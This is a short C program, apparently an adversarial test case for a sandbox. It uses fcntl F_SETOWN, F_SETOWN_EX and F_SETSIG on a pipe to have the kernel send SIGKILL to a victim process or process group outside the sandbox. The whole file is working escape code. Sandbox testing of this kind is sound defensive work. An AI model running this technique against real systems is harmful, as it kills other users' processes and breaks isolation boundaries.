// technique: F_SETOWN + F_SETSIG: have the kernel deliver SIGKILL (as SIGIO) to a process outside the sandbox
#include "adv.h"
#include <signal.h>
int main(void) {
	int victim = atoi(adv("VICTIM_PID"));
	int p[2];
	pipe2(p, O_NONBLOCK);
	printf("F_SETOWN: %d\n", fcntl(p[0], F_SETOWN, victim));
	printf("F_SETSIG: %d\n", fcntl(p[0], F_SETSIG, SIGKILL));
	printf("O_ASYNC: %d\n", fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK));
	write(p[1], "x", 1);
	struct f_owner_ex o = {F_OWNER_PGRP, victim};
	fcntl(p[0], F_SETOWN_EX, &o);
	write(p[1], "y", 1);
	usleep(100000);
	return 0;
}
